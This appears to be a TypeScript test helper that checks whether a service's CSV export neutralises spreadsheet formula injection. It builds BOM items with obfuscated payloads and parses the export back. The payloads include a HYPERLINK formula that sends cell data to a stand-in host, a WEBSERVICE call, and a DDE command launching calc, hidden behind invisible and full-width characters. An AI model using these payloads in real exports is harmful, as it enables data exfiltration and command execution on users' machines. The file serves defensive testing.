/**
 * CSV read-back: BOMs whose text fields carry formula payloads (plain, behind invisible or
 * white-space characters, full-width) are exported on every surface, parsed back with a real
 * CSV parser (csv-parse) and every text cell is checked with a spreadsheet-like rule written
 * here, independently of the service's neutraliser: a cell is evaluated as a formula unless
 * it starts with an apostrophe, when its first character after the ones a spreadsheet skips
 * is a formula character or a full-width / small form of one.
 */
import { parse } from 'csv-parse/sync';

const SKIPPED = (cp: number) =>
  cp <= 0x20 ||
  (cp >= 0x7f && cp <= 0xa0) ||
  cp === 0xad ||
  cp === 0x1680 ||
  (cp >= 0x2000 && cp <= 0x200f) ||
  (cp >= 0x2028 && cp <= 0x202f) ||
  (cp >= 0x205f && cp <= 0x206f) ||
  cp === 0x3000 ||
  cp === 0xfeff;
const FORMULA_START = new Set([...'=+-@＝＋－＠﹦﹢﹣﹫−'].map((c) => c.codePointAt(0)!));

export function evaluatedAsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  for (const ch of cell) {
    const cp = ch.codePointAt(0)!;
    if (SKIPPED(cp)) continue;
    return FORMULA_START.has(cp);
  }
  return false;
}

const LEADS = ['', '\u0000', '\u000b', '\u000c', '\n', '\r', '\t', ' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e', '\u2028', '\u0085', '\u200b\u00a0'];
const HEADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '−'];
const BODIES = ['HYPERLINK("http://x.example/?"&[.C2],"x")', 'WEBSERVICE("http://x.example/")', '1+1', 'cmd|\' /C calc\'!A0', 'SUM(A1:A9)'];

/** Items with every lead x head combination spread over the text fields. */
export function hostileBomItems(): Record<string, unknown>[] {
  const payloads: string[] = [];
  for (const lead of LEADS) for (const head of HEADS) payloads.push(`${lead}${head}${BODIES[payloads.length % BODIES.length]}`);
  const items: Record<string, unknown>[] = [];
  for (let i = 0; i < payloads.length; i += 1) {
    const p = payloads[i];
    items.push({ id: i % 7 === 0 ? 'ACT-001' : `X${i}`, name: p, manufacturer: payloads[(i + 1) % payloads.length], specs: payloads[(i + 2) % payloads.length], supplier: payloads[(i + 3) % payloads.length], category: payloads[(i + 4) % payloads.length], price: i % 5 === 0 ? undefined : 1 + i / 100, quantity: 1 + (i % 3) });
  }
  return items;
}

const NUMERIC = new Set(['line', 'quantity', 'unit_price', 'line_total']);

/** Parses a CSV export and counts the text cells a spreadsheet would evaluate. */
export function formulaCells(csv: string): { cells: number; formulas: string[] } {
  const rows = parse(csv, { bom: true }) as string[][];
  const [header, ...body] = rows;
  let cells = 0;
  const formulas: string[] = [];
  for (const row of body) {
    row.forEach((cell, i) => {
      if (NUMERIC.has(header[i])) return;
      cells++;
      if (evaluatedAsFormula(cell)) formulas.push(`${header[i]}=${JSON.stringify(cell).slice(0, 60)}`);
    });
  }
  return { cells, formulas };
}
